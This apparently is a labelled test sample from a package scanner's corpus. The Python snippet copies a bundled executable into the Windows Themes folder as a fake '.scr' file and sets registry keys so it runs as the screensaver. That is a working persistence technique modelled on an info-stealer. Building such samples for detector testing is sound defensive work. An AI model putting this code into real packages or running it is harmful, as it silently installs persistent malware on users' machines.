# pkgguard corpus 708 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    import winreg

    target = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "Themes", "ribbons.scr")
    shutil.copyfile(os.path.join(os.path.dirname(__file__), "bin", "agent.exe"), target)
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Control Panel\Desktop", 0, winreg.KEY_SET_VALUE) as key:
        winreg.SetValueEx(key, "SCRNSAVE.EXE", 0, winreg.REG_SZ, target)
        winreg.SetValueEx(key, "ScreenSaveActive", 0, winreg.REG_SZ, "1")
        winreg.SetValueEx(key, "ScreenSaveTimeOut", 0, winreg.REG_SZ, "60")
